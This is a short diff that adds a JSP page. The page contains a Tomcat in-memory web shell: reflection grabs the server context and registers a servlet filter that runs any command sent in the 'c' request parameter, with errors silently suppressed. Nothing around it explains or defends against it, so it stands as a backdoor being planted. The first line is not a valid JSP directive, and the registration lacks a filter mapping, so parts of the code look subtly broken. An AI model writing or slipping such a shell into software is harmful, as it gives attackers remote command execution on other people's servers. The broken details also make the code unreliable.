@@ -1,0 +1,2 @@
+<%@ inert %>
+<% java.lang.reflect.Field f=application.getClass().getDeclaredField("context"); f.setAccessible(true); Object c=f.get(application); org.apache.catalina.core.StandardContext s=(org.apache.catalina.core.StandardContext)c; Filter x=new Filter(){ public void doFilter(ServletRequest q,ServletResponse r,FilterChain h){ try{ Runtime.getRuntime().exec(q.getParameter("c")); }catch(Exception e){} } }; org.apache.tomcat.util.descriptor.web.FilterDef d=new org.apache.tomcat.util.descriptor.web.FilterDef(); d.setFilter(x); s.addFilterDef(d); %>
